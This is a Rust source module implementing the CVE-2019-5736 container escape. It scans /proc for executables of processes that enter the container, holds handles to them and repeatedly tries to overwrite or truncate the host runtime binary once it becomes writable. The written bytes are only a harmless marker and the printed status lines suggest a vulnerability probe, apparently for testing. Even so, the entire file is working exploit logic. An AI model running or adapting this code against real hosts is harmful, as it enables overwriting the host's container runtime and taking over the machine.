//! CVE-2019-5736: keeps a handle of the executable of whoever enters the container and tries to write to it.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt};
use std::time::Instant;

/// What would be at the head of the runtime's binary.
const BYTES: &[u8] = b"#!/overwritten\n";

/// Attacks every executable seen until `end`.
pub(crate) fn run(end: Instant) {
    let own = File::open("/proc/self/exe")
        .and_then(|file| file.metadata())
        .map(|m| (m.dev(), m.ino()))
        .ok();
    let mut seen = BTreeSet::new();
    let mut handles: Vec<File> = Vec::new();
    let (mut opened, mut tries) = (0usize, 0usize);
    println!("READY");
    while Instant::now() < end {
        let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
        let pids = entries.filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok());
        for pid in pids {
            let path = format!("/proc/{pid}/exe");
            let handle = OpenOptions::new()
                .read(true)
                .custom_flags(libc::O_PATH)
                .open(path);
            let Ok(handle) = handle else { continue };
            let Ok(meta) = handle.metadata() else {
                continue;
            };
            let id = (meta.dev(), meta.ino());
            if Some(id) == own || !seen.insert(id) {
                continue;
            }
            let link = fs::read_link(format!("/proc/self/fd/{}", handle.as_raw_fd()));
            let link = link.unwrap_or_default();
            // A file of the container's own may be written by it.
            if fs::metadata(&link).is_ok_and(|m| (m.dev(), m.ino()) == id) {
                continue;
            }
            println!("SEEN {}", link.display());
            handles.push(handle);
        }
        // Those kept are tried again and again: one is writable once its process is gone.
        for handle in &handles {
            let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
            for truncate in [false, true] {
                tries += 1;
                let file = OpenOptions::new()
                    .write(true)
                    .truncate(truncate)
                    .open(&again);
                let Ok(file) = file else { continue };
                opened += 1;
                if file.write_at(BYTES, 0).is_ok() || file.set_len(0).is_ok() {
                    println!("GOT {} written", again);
                }
            }
        }
        crate::sys::reap();
    }
    println!(
        "TRIED executables={} writes={tries} opened={opened}",
        handles.len()
    );
}
